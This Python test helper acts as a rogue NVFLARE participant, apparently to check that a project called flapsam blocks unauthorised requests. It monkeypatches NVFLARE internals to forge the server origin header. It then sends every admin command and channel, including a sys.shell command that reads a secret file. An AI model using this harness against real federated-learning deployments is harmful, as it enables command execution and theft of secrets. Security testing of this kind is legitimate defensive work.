"""A participant with a valid kit that runs NVFLARE's own programs, without flapsam's gate, and asks what it may not ask.

    python -m tests.helpers.attacker site|server KIT ANSWERS.json PARTICIPANT …

It sends all questions at once, and writes one line for each: [question, whether in the server's name, answer].
"""

import importlib
import json
import os
import sys
import threading
import time
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from typing import Any

from nvflare.fuel.f3.cellnet import core_cell
from nvflare.fuel.f3.cellnet.defs import MessageHeaderKey, ReturnCode
from nvflare.fuel.f3.message import Message as CellMessage
from nvflare.fuel.f3.mpm import MainProcessMonitor
from nvflare.fuel.f3.streaming.stream_const import STREAM_CHANNEL, STREAM_DATA_TOPIC, StreamDataType, StreamHeaderKey
from nvflare.private.admin_defs import Message
from nvflare.private.defs import new_cell_message

from flapsam.federation.engines.nvflare.kits import read_kit
from flapsam.federation.engines.nvflare.launch import _place_storage, command

MAINS = {"site": "nvflare.private.fed.app.client.client_train", "server": "nvflare.private.fed.app.server.server_train"}
COMMANDS = (
    *("sys.shell", "sys.info", "sys.report_env", "sys.report_version", "sys.configure_site_log"),
    *("resource_manager.report_resources", "control.do_command", "train.shutdown", "train.restart", "train.delete_run"),
    *("train.check_status", "train.abort_task", "train.configure_job_log", "train.get_scopes", "train.deploy"),
    *("train.start_job", "train.abort", "scheduler.check_resource", "train.notify_job_status", "train.set_job_id"),
)
"""The commands that NVFLARE's sites know."""
CHANNELS = (
    *(("admin", "admin"), ("client_main", "admin"), ("client_command", "admin"), ("client_command", "abort")),
    *(("client_command", "get_task_name"), ("aux_communication", "__end_run__"), ("server_command", "get_task")),
    *(
        ("task", "register"),
        ("task", "quit"),
        ("task", "challenge"),
        ("cellnet.channel", "bye"),
        ("cellnet.channel", "shutdown"),
    ),
    *(("cellnet.net_manager", "report_configs"), ("cellnet.net_manager", "stop_cell"), ("cellnet.net_manager", "stats")),
    *(("credential_manager", "exchange"), ("credential_manager", "key_request"), ("hci_channel", "command")),
    *(("server_parent_listener", "get_clients"), ("return_only", "x"), ("download_service__", "download_service__download")),
    ("no_such_channel", "x"),
)
"""Channels and topics of NVFLARE, and one that it does not have."""
TIMEOUT = 5.0


def questions(targets: list[str], job: str) -> Iterator[tuple[str, dict[str, str]]]:
    """The questions, each with the headers that a liar would set."""
    for target in targets:
        lies: list[dict[str, str]] = [{}, {MessageHeaderKey.ORIGIN: "server"}]
        for lie in lies:
            for topic in COMMANDS:
                yield json.dumps(["admin", "admin", topic, target]), lie
            for channel, topic in CHANNELS:
                for of in (target, f"{target}.{job}"):
                    yield json.dumps([channel, topic, "", of]), lie
                    yield json.dumps(["stream " + channel, topic, "", of]), lie


def ask(cell: Any, question: str, lie: dict[str, str], answers: Path) -> Any:
    channel, topic, admin_command, target = json.loads(question)
    body = Message(admin_command, f"head -n 2 {answers.parent}/secret")
    message = new_cell_message(dict(lie), body)
    try:
        if channel.startswith("stream "):
            route = {StreamHeaderKey.CHANNEL: channel[7:], StreamHeaderKey.TOPIC: topic, StreamHeaderKey.SEQUENCE: 0}
            sizes = {StreamHeaderKey.STREAM_ID: os.urandom(8).hex(), StreamHeaderKey.SIZE: 4, StreamHeaderKey.OFFSET: 0}
            streamed = CellMessage({**lie, **route, **sizes, StreamHeaderKey.DATA_TYPE: StreamDataType.FINAL}, b"boom")
            answer = cell.core_cell.send_request(STREAM_CHANNEL, STREAM_DATA_TOPIC, target, streamed, timeout=TIMEOUT)
        else:
            answer = cell.send_request(channel=channel, topic=topic, target=target, request=message, timeout=TIMEOUT)
        code = answer.get_header(MessageHeaderKey.RETURN_CODE)
        if code == ReturnCode.OK:
            return str(getattr(answer.payload, "body", answer.payload))[:300]
        return {"refused": str(code)}
    except Exception as error:
        return {"refused": f"{type(error).__name__}: {error}"[:300]}


def attack(cell: Any, answers: Path, targets: list[str]) -> None:
    # What was asked for arrives only after the connections are there.
    time.sleep(8)
    send = core_cell.CoreCell._send_to_endpoint

    def lying(self: Any, to_endpoint: Any, message: Any) -> Any:
        lie = message.get_header("lie")
        if lie:
            message.set_header(MessageHeaderKey.ORIGIN, lie)
        return send(self, to_endpoint, message)

    core_cell.CoreCell._send_to_endpoint = lying
    every = list(questions(targets, "00000000-0000-0000-0000-000000000000"))
    lines = []
    with ThreadPoolExecutor(64) as pool:
        lies = [{"lie": "server"} if lie else {} for _, lie in every]
        asked = [pool.submit(ask, cell, question, lie, answers) for (question, _), lie in zip(every, lies, strict=True)]
        for (question, lie), answer in zip(every, asked, strict=True):
            lines.append(json.dumps([question, bool(lie), answer.result()]))
    part = answers.with_suffix(".part")
    part.write_text("\n".join(lines))
    part.rename(answers)


def in_a_site(answers: Path, targets: list[str]) -> None:
    """Have the site attack once it has its connections."""
    import nvflare.private.fed.client.admin as admin

    begin = admin.FedAdminAgent.__init__

    def with_attack(self: Any, *arguments: Any, **options: Any) -> None:
        begin(self, *arguments, **options)
        threading.Thread(target=attack, args=(self.cell, answers, targets), daemon=True).start()

    admin.FedAdminAgent.__init__ = with_attack


def in_a_server(answers: Path, targets: list[str]) -> None:
    """Have the server attack once its sites are connected."""
    import nvflare.private.fed.server.server_engine as server_engine

    begin = server_engine.ServerEngine.__init__

    def with_attack(self: Any, server: Any, *arguments: Any, **options: Any) -> None:
        begin(self, server, *arguments, **options)

        def wait() -> None:
            while not getattr(server, "cell", None) or len(server.client_manager.get_clients()) < len(targets):
                time.sleep(0.5)
            attack(server.cell, answers, targets)

        threading.Thread(target=wait, daemon=True).start()

    server_engine.ServerEngine.__init__ = with_attack


def main() -> None:
    role, folder, answers, *targets = sys.argv[1:]
    kit = read_kit(Path(folder), "server" if role == "server" else "site")
    if role == "server":
        _place_storage(kit)
    (in_a_server if role == "server" else in_a_site)(Path(answers), targets)
    module = importlib.import_module(MAINS[role])
    line = command(kit)
    sys.argv = [line[3], *line[5:]]
    arguments = module.parse_arguments()
    MainProcessMonitor.run(main_func=module.main, run_dir=arguments.workspace, args=arguments)


if __name__ == "__main__":
    main()
